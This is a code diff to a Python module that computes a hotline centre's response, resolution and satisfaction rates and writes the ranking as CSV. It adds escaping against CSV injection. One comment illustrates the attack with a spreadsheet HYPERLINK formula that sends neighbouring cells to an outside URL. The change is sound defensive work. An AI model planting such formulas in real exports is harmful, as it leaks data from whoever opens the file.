@@ -1,12 +1,14 @@
 """The 三率 a hotline centre publishes: 响应率, 解决率, 满意率 — and the ranking built from them.
 
-Pure computation over plain rows, one per case (a merged repeat is not a row: its reporter's survey
-answers are folded into the master case's row by the caller).
+Pure computation over plain rows, one per case. A merged repeat is not a row: the answers of the
+reporters merged into a case travel in its row (``RateRow.reports``, filled by hotline/rates_cases.py).
 
 - 响应率 response rate: among cases dispatched to a unit, those it accepted (接单) within the response
-  time limit. Cases answered at intake (直接答复) count as dispatched and responded.
-- 解决率 resolution rate: among surveyed cases, those the citizen says are solved (已解决).
-- 满意率 satisfaction rate: among surveyed cases, 满意 + w·基本满意 (w from config), as a share.
+  time limit. Cases answered at intake (直接答复) count as dispatched and responded. Per case.
+- 解决率 resolution rate: among survey answers (回访数), those saying the problem is solved (已解决). Per
+  answer, as 12345 centres count each caller's evaluation of their own 诉求: a case with two reporters who
+  both answered is two evaluations.
+- 满意率 satisfaction rate: among survey answers, 满意 + w·基本满意 (w from config), as a share.
 - score: the weighted sum the ranking sorts by (weights from config; Beijing's 接诉即办 assessment weighs
   response 10 %, resolution 45 %, satisfaction 45 %).
 """
@@ -39,8 +41,17 @@ class RateRow:
     accept_delay_s: float | None
     response_limit_s: float
     answered_at_intake: bool = False
-    resolved: bool | None = None  # survey Q1; None when not surveyed
+    resolved: bool | None = None  # survey Q1 of the case's own reporter; None when not surveyed
     satisfaction: str | None = None  # survey Q2
+    # (resolved, satisfaction) of each merged reporter who answered, one evaluation each.
+    reports: tuple[tuple[bool, str | None], ...] = ()
+
+    def answers(self) -> list[tuple[bool, str | None]]:
+        """Every evaluation of the case: its own reporter's, then the merged reporters'."""
+        out = list(self.reports)
+        if self.resolved is not None:
+            out.insert(0, (self.resolved, self.satisfaction))
+        return out
 
 
 @dataclass(frozen=True)
@@ -57,7 +68,7 @@ class Rates:
     cases: int = 0
     dispatched: int = 0
     responded: int = 0
-    surveyed: int = 0
+    surveyed: int = 0  # survey answers (回访数): one per reporter who answered, so it may exceed ``cases``
     resolved: int = 0
     satisfied: int = 0
     basic: int = 0
@@ -98,14 +109,14 @@ class Rates:
             self.dispatched += 1
             if row.accept_delay_s is not None and row.accept_delay_s <= row.response_limit_s:
                 self.responded += 1
-        if row.resolved is not None:
+        for resolved, satisfaction in row.answers():
             self.surveyed += 1
-            self.resolved += int(row.resolved)
-            if row.satisfaction == SATISFIED:
+            self.resolved += int(resolved)
+            if satisfaction == SATISFIED:
                 self.satisfied += 1
-            elif row.satisfaction == BASIC:
+            elif satisfaction == BASIC:
                 self.basic += 1
-            elif row.satisfaction == UNSATISFIED:
+            elif satisfaction == UNSATISFIED:
                 self.unsatisfied += 1
 
     def to_dict(self) -> dict[str, object]:
@@ -167,15 +178,33 @@ CSV_HEADER_ZH = ["排名", "单位", "案件数", "派遣数", "按时响应", "
                  "响应率", "解决率", "满意率", "综合得分"]
 
 
+# A spreadsheet takes a cell starting with one of these as a formula (CSV injection): a street typed by a
+# call-taker as =HYPERLINK("http://…?d="&A2) would send the neighbouring cells away when the file is opened.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def csv_cell(value: object) -> object:
+    """A text cell a spreadsheet shows as text (OWASP: a leading single quote); numbers stay numbers."""
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
+def csv_text(header: Iterable[object], rows: Iterable[Iterable[object]]) -> str:
+    """Every CSV the hotline hands out goes through here, so that no text cell can run as a formula."""
+    buf = io.StringIO()
+    writer = csv.writer(buf)
+    writer.writerow([csv_cell(v) for v in header])
+    writer.writerows([csv_cell(v) for v in row] for row in rows)
+    return buf.getvalue()
+
+
 def to_csv(ranked: list[Rates]) -> str:
     def pct(x: float | None) -> str:
         return "" if x is None else f"{x * 100:.1f}%"
 
-    buf = io.StringIO()
-    writer = csv.writer(buf)
-    writer.writerow(CSV_HEADER_ZH)
-    for i, r in enumerate(ranked, 1):
-        writer.writerow([i, r.key, r.cases, r.dispatched, r.responded, r.surveyed, r.resolved, r.satisfied, r.basic,
-                         r.unsatisfied, pct(r.response_rate), pct(r.resolution_rate), pct(r.satisfaction_rate),
-                         "" if r.score is None else f"{r.score * 100:.2f}"])
-    return buf.getvalue()
+    return csv_text(CSV_HEADER_ZH, (
+        [i, r.key, r.cases, r.dispatched, r.responded, r.surveyed, r.resolved, r.satisfied, r.basic, r.unsatisfied,
+         pct(r.response_rate), pct(r.resolution_rate), pct(r.satisfaction_rate),
+         "" if r.score is None else f"{r.score * 100:.2f}"]
+        for i, r in enumerate(ranked, 1)))
